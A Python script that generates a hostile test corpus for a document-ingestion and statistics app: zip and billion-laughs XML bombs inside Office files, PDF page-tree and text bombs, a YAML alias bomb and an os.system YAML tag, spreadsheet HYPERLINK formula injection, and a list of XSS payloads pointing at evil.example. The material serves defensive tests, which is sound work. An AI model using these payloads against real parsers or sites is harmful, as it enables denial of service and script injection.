"""Regenerate the hostile corpus in this folder: `python tests/hostile/make_hostile.py`.

Every file is small on disk; the bombs only become large when a parser expands them. The files
are committed so the tests run without generating anything; this script documents exactly how
each was made. The file over the size cap is not here: tests/pipeline/test_hostile.py writes it
to a tmp folder (a committed 21 MB file would be pointless).
"""

from __future__ import annotations

import io
import json
import random
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import yaml
from pypdf import PdfWriter

HERE = Path(__file__).resolve().parent
DOCS = HERE / "docs"  # hostile documents
# Hostile statistics releases; each is checked against MANIFEST (columns kommun_code, kommun,
# value), which the tests write next to a copy under the file's own id, unless the release
# comes with its own `<id>.manifest.yaml` here (the plausibility shapes need their units).
STATS = HERE / "statistics"
# Hostile Markdown/HTML strings: each must reach the page as text (tests/test_app.py renders
# them through Streamlit in AppTest, tests/e2e/test_hostile_browser.py in Chromium).
MARKDOWN = HERE / "markdown.json"

BOMB_BYTES = 150_000_000  # > MAX_ZIP_UNCOMPRESSED_BYTES (100 MB); deflates to ~150 kB


def _laughs() -> bytes:
    """The classic billion laughs: lol9 expands to 10^9 copies of "lol"."""
    lines = [b'<?xml version="1.0"?>', b"<!DOCTYPE lolz [", b' <!ENTITY lol0 "lol">']
    for i in range(1, 10):
        lines.append(b' <!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10))
    return b"\n".join([*lines, b"]>", b""])


LAUGHS = _laughs()


def main() -> None:
    DOCS.mkdir(exist_ok=True)
    STATS.mkdir(exist_ok=True)
    (DOCS / "zipbomb.docx").write_bytes(_zip_bomb(_docx(), "word/document.xml"))
    (DOCS / "xmlbomb.docx").write_bytes(_billion_laughs(_docx(), "word/document.xml",
                                                        b"<w:document"))
    (DOCS / "malformed.pdf").write_bytes(_malformed_pdf())
    (DOCS / "encrypted.pdf").write_bytes(_encrypted_pdf())
    (DOCS / "many-pages.pdf").write_bytes(_page_tree_pdf(levels=4))  # 10,000 pages
    (DOCS / "page-tree-bomb.pdf").write_bytes(_page_tree_pdf(levels=9))  # 10^9 pages
    (DOCS / "text-bomb.pdf").write_bytes(_text_bomb_pdf())
    (DOCS / "empty.md").write_bytes(b"")
    (DOCS / "binary.md").write_bytes(random.Random(4).randbytes(4096))
    (DOCS / "nested.html").write_bytes(b"<html><body>" + b"<div>" * 10_000 + b"Text"
                                       + b"</div>" * 10_000 + b"</body></html>")
    sheet = "xl/worksheets/sheet1.xml"
    (STATS / "zipbomb_sheet.xlsx").write_bytes(_zip_bomb(_xlsx([["a"]]), sheet))
    (STATS / "xmlbomb_sheet.xlsx").write_bytes(_billion_laughs(_xlsx([["a"]]), sheet,
                                                               b"<worksheet"))
    (STATS / "formula_sheet.xlsx").write_bytes(_xlsx([["kommun_code", "kommun", "value"],
                                                ["0180", '=HYPERLINK("https://evil.example")',
                                                 1.5]]))
    (STATS / "wrong_columns.csv").write_bytes(b"kod,namn,varde\n0180,Stockholm,1.5\n")
    (STATS / "bad_encoding.csv").write_bytes("kommun_code,kommun,value\n0180,Södertälje,1.5\n"
                                       .encode("cp1252"))
    (STATS / "formula_cells.csv").write_bytes(b'kommun_code,kommun,value\n'
                                        b'0180,"=HYPERLINK(""https://evil.example"",""klicka"")"'
                                        b',1.5\n')
    _front_matter_shapes()
    _plausibility_shapes()
    MARKDOWN.write_text(json.dumps(MARKDOWN_CORPUS, ensure_ascii=False, indent=1) + "\n",
                        encoding="utf-8")


# -- front matter (issue 11) --------------------------------------------------------------------


def _front_matter_shapes() -> None:
    """Front matter the loader refuses at once: a 449-byte alias bomb that walked (str of the
    title) grows to gigabytes, a block over the 16 kB cap (a 1 MB title held the write lock for
    minutes through every chunk's embedding text), YAML tags, and nesting."""
    laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    laughs += [f"{c}: &{c} [{','.join(f'*{p}' for _ in range(9))}]"
               for p, c in zip("abcdefg", "bcdefgh", strict=True)]
    body = "\n\n# Rubrik\n\nText om klimatet.\n"
    (DOCS / "alias-bomb.md").write_text("---\n" + "\n".join(laughs) + "\ntitle: *h\n---" + body,
                                        encoding="utf-8")
    (DOCS / "huge-title.md").write_text("---\ntitle: " + "Titel " * 4000 + "\n---" + body,
                                        encoding="utf-8")
    (DOCS / "tagged.md").write_text("---\ntitle: !!python/object/apply:os.system [id]\n---"
                                    + body, encoding="utf-8")
    (DOCS / "nested.md").write_text("---\ntitle:\n  sv: Svensk\n  en: English\n---" + body,
                                    encoding="utf-8")


# -- plausibility (issue 11) --------------------------------------------------------------------

PLAUSIBILITY_MANIFEST = {
    "title": "Orimlig testtabell", "description": "Bara för tester.",
    "source_organisation": "Test", "source_url": "", "via": "", "release": "Test 2026",
    "release_year": 2026, "unit": "t CO2e", "years": [2023, 2024], "level": "kommun",
    "key": ["kommun_code", "year"],
    "columns": {"kommun_code": {"type": "str", "description": "Kod."},
                "kommun": {"type": "str", "description": "Namn."},
                "year": {"type": "int", "description": "År."},
                "value": {"type": "float", "description": "Utsläpp.", "unit": "t CO2e"}},
    "caveats": [],
}


def _plausibility_shapes() -> None:
    """Releases that parse and match their manifests but cannot be true: negative emissions
    without `lulucf: true`, a municipality code that does not exist, a year after the release,
    a year the manifest does not list, a population of 0."""
    header = "kommun_code,kommun,year,value\n"
    shapes = {
        "negative_emissions": (header + "0180,Stockholm,2024,-120.5\n", {}),
        "unknown_kommun": (header + "0199,Påhittad,2024,12.5\n", {}),
        "future_year": (header + "0180,Stockholm,2024,12.5\n", {"years": [2024, 2099]}),
        "year_outside": (header + "0180,Stockholm,2031,12.5\n", {}),
        "population_zero": (header + "0180,Stockholm,2024,0\n", {"unit": "invånare", "columns": {
            **PLAUSIBILITY_MANIFEST["columns"],
            "value": {"type": "int", "description": "Folkmängd.", "unit": "invånare"}}}),
    }
    for name, (csv_text, changes) in shapes.items():
        (STATS / f"{name}.csv").write_text(csv_text, encoding="utf-8")
        manifest = {"id": name, **PLAUSIBILITY_MANIFEST, **changes}
        (STATS / f"{name}.manifest.yaml").write_text(
            yaml.safe_dump(manifest, allow_unicode=True, sort_keys=False), encoding="utf-8")


# -- Markdown and HTML that must stay text (issue 11) --------------------------------------------

EVIL = "https://evil.example"
MARKDOWN_CORPUS = [
    "![a[b]](//evil.example/nested.png)",
    f"![bild]({EVIL}/pixel.png)",
    f'![bild]({EVIL}/titled.png "titel")',
    f"[![bild]({EVIL}/in-link.png)]({EVIL}/)",
    f"![bild][ref]\n\n[ref]: {EVIL}/ref.png",
    "[länk][js]\n\n[js]: javascript:alert(1)",
    "[klicka](javascript:alert(1))",
    "[klicka](JaVaScRiPt:alert(1))",
    "[klicka](<javascript:alert(1)>)",
    "[klicka](&#106;avascript:alert(1))",
    "[klicka](java\tscript:alert(1))",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    f"<{EVIL}/autolink>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{EVIL}/raw.png">',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    '<a href="javascript:alert(1)">länk</a>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    "<style>body { display: none }</style>",
    f'<form action="{EVIL}/steal"><input name="losen"></form>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'<base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<!-- dold --><img src=x onerror=alert(1)>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |",
    "$\\href{javascript:alert(1)}{klick}$",
    f"$$\n\\includegraphics{{{EVIL}/katex.png}}\n$$",
    ":red[röd text] :material/warning: :blue-background[blå]",
    f"\\![bild]({EVIL}/backslash.png)",
    f"` ![bild]({EVIL}/tick.png) `x` ![bild]({EVIL}/tick2.png)",
    f") ![bild]({EVIL}/paren.png) (",
    f"{EVIL}/a) ![bild]({EVIL}/url-breakout.png",
    "# Rubrik\n===\n> citat\n- punkt",
]


# -- Office files -------------------------------------------------------------------------------


def _docx() -> bytes:
    buffer = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Hej")
    document.save(buffer)
    return buffer.getvalue()


def _xlsx(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rezip(original: bytes, replace: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(original)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
    return out.getvalue()


def _zip_bomb(original: bytes, part: str) -> bytes:
    """The part padded with whitespace inside the XML: valid XML, 150 MB uncompressed."""
    with zipfile.ZipFile(io.BytesIO(original)) as z:
        body = z.read(part)
    end = body.rindex(b"</")
    return _rezip(original, {part: body[:end] + b" " * BOMB_BYTES + body[end:]})


def _billion_laughs(original: bytes, part: str, root_tag: bytes) -> bytes:
    """A DTD whose entity expands to 10^9 'lol's, referenced inside the root element."""
    with zipfile.ZipFile(io.BytesIO(original)) as z:
        body = z.read(part)
    start = body.index(root_tag)
    close = body.index(b">", start) + 1
    evil = LAUGHS + body[start:close] + b"&lol9;" + body[close:]
    return _rezip(original, {part: evil})


# -- PDFs ---------------------------------------------------------------------------------------


def _malformed_pdf() -> bytes:
    """A header, an object with a corrupt Flate stream, no valid xref, no trailer."""
    junk = bytes(random.Random(7).randbytes(300))
    return (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"3 0 obj\n<< /Length 300 /Filter /FlateDecode >>\nstream\n" + junk +
            b"\nendstream\nendobj\nxref\n0 4\nthis is not an xref table\n%%EOF\n")


def _encrypted_pdf() -> bytes:
    """Needs a password to open (RC4: readable by pypdf without `cryptography`)."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="hemligt", owner_password="agare", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _page_tree_pdf(levels: int) -> bytes:
    """A page tree where every node lists the SAME child ten times: `levels` objects describe
    10^levels pages. A parser that expands the tree (instead of trusting /Count) does 10^levels
    work, so this is a time and memory bomb of a few hundred bytes."""
    stream = b"BT /F1 12 Tf 20 100 Td (Sida) Tj ET"
    objects = [b"<< /Type /Catalog /Pages 3 0 R >>",  # 1
               b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)]  # 2
    # 3 is the root /Pages node, 4 its one (ten times listed) child, ..., then the one leaf.
    first = 3
    for level in range(levels):
        number = first + level
        child = number + 1
        count = 10 ** (levels - level)
        kids = b" ".join(b"%d 0 R" % child for _ in range(10))
        parent = b"" if level == 0 else b" /Parent %d 0 R" % (number - 1)
        objects.append(b"<< /Type /Pages /Kids [%s] /Count %d%s >>" % (kids, count, parent))
    leaf = first + levels
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 200 200] /Contents 2 0 R >>"
                   % (leaf - 1))
    return _pdf_file(objects)


def _text_bomb_pdf() -> bytes:
    """One page whose content stream inflates to ~49 MB of `(a) Tj` operators (under pypdf's
    and our 50 MB per-stream cap) from ~50 kB: text extraction would run for minutes."""
    content = b"BT /F1 1 Tf " + b"(a) Tj " * 7_000_000 + b"ET"
    packed = zlib.compress(content, 9)
    return _pdf_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def _pdf_file(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


if __name__ == "__main__":
    main()
